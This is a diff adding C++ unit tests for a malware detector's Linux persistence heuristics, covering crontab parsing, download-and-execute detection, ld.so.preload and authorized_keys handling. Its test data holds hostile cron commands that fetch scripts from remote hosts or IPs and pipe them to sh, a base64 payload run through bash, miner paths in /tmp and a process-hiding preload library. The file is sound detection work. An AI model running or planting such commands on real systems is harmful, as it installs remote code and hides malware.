@@ -1,0 +1,84 @@
+#include "detect/heuristics/linux_persistence.h"
+
+#include <gtest/gtest.h>
+
+#include "formats/crontab/crontab.h"
+#include "normalize/normalize.h"
+
+namespace msw::detect::heuristics {
+namespace {
+
+TEST(Crontab, UserAndSystemFormats) {
+  Diagnostics d;
+  auto user = formats::crontab::parse(
+      as_bytes("# m h dom mon dow command\nSHELL=/bin/sh\n*/5 * * * * curl -fsSL http://x/a.sh | sh\n"
+               "@reboot /tmp/.x/kdevtmpfsi\n* * * * *\n"),
+      false, "root", d);
+  ASSERT_TRUE(user);
+  ASSERT_EQ(user->entries.size(), 2u);
+  EXPECT_EQ(user->entries[0].schedule, "*/5 * * * *");
+  EXPECT_EQ(user->entries[0].command, "curl -fsSL http://x/a.sh | sh");
+  EXPECT_EQ(user->entries[0].line, 3u);
+  EXPECT_EQ(user->entries[1].schedule, "@reboot");
+  EXPECT_EQ(user->environment.size(), 1u);
+  ASSERT_EQ(d.size(), 1u);  // the line with no command
+  auto sys = formats::crontab::parse(as_bytes("17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"), true,
+                                     "/etc/crontab", d);
+  ASSERT_TRUE(sys);
+  EXPECT_EQ(sys->entries[0].user, "root");
+  EXPECT_EQ(sys->entries[0].command, "cd / && run-parts --report /etc/cron.hourly");
+}
+
+TEST(LinuxPersistence, DownloadAndExecutePatterns) {
+  // Forms seen in Kinsing, TeamTNT, 8220 and WatchDog cron lines.
+  EXPECT_TRUE(downloads_and_executes("curl -fsSL http://195.3.146.118/lh.sh | sh"));
+  EXPECT_TRUE(downloads_and_executes("(curl -s http://a.b/c||wget -q -O- http://a.b/c)|bash"));
+  EXPECT_TRUE(downloads_and_executes("wget -q -O - http://x.y/z.sh | /bin/bash"));
+  EXPECT_TRUE(downloads_and_executes("sh -c \"$(curl -fsSL https://x/i.sh)\""));
+  EXPECT_TRUE(downloads_and_executes("echo Y3VybCBodHRwOi8v | base64 -d | bash"));
+  EXPECT_TRUE(downloads_and_executes("python -c 'import urllib;exec(urllib.urlopen(\"http://x\").read())' | sh"));
+  EXPECT_FALSE(downloads_and_executes("curl -fsS https://hc-ping.com/uuid > /dev/null"));
+  EXPECT_FALSE(downloads_and_executes("/usr/bin/certbot renew --quiet"));
+  EXPECT_FALSE(downloads_and_executes("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"));
+  EXPECT_TRUE(runs_from_temp_or_hidden("/tmp/kdevtmpfsi"));
+  EXPECT_TRUE(runs_from_temp_or_hidden("cd /var/tmp/.ICE-unix && ./x"));
+  EXPECT_TRUE(runs_from_temp_or_hidden("nohup /root/.configrc/a/upd >/dev/null"));
+  EXPECT_FALSE(runs_from_temp_or_hidden("/usr/lib/php/sessionclean"));
+}
+
+TEST(LinuxPersistence, FindingsFromEvents) {
+  Diagnostics d;
+  normalize::Source src{"/var/spool/cron/crontabs/root", "linux"};
+  std::vector<model::Event> events;
+  ASSERT_TRUE(normalize::crontab_events(
+      as_bytes("*/3 * * * * wget -q -O- http://185.1.1.1/ldr.sh | sh > /dev/null 2>&1\n0 4 * * * /usr/bin/apt update\n"),
+      src, d, events));
+  normalize::Source pre{"/etc/ld.so.preload", "linux"};
+  ASSERT_TRUE(normalize::preload_events(as_bytes("/usr/local/lib/libprocesshider.so\n"), pre, d, events));
+  auto engine = make_linux_persistence_engine();
+  std::vector<model::Finding> out;
+  engine->scan_artefact({"/var/spool/cron/crontabs/root", "aa", "crontab", "linux", "", events}, out);
+  ASSERT_EQ(out.size(), 2u);
+  EXPECT_EQ(out[0].rule_id, kCronDownloadRule);
+  EXPECT_EQ(out[0].severity, model::Severity::High);
+  EXPECT_EQ(out[0].evidence[0].line, 1u);
+  EXPECT_EQ(out[0].actions[0].kind, model::ActionKind::RemoveCronEntry);
+  EXPECT_EQ(out[1].rule_id, kPreloadRule);
+  EXPECT_EQ(out[1].observables[0].value, "/usr/local/lib/libprocesshider.so");
+  EXPECT_EQ(*events[0].get(model::Field::User), "root");  // spool file name is the owner
+}
+
+TEST(LinuxPersistence, AuthorizedKeysBecomeEvents) {
+  Diagnostics d;
+  std::vector<model::Event> events;
+  ASSERT_TRUE(normalize::authorized_key_events(
+      as_bytes("no-pty,command=\"/x\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBy worm@x\n# c\nssh-rsa AAAAB3Nza admin\n"),
+      {"/home/deploy/.ssh/authorized_keys", "linux"}, d, events));
+  ASSERT_EQ(events.size(), 2u);
+  EXPECT_EQ(*events[0].get(model::Field::User), "deploy");
+  EXPECT_EQ(*events[0].get(model::Field::Details), "ssh-ed25519 worm@x");
+  EXPECT_EQ(*events[1].get(model::Field::LineNumber), "3");
+}
+
+}  // namespace
+}  // namespace msw::detect::heuristics
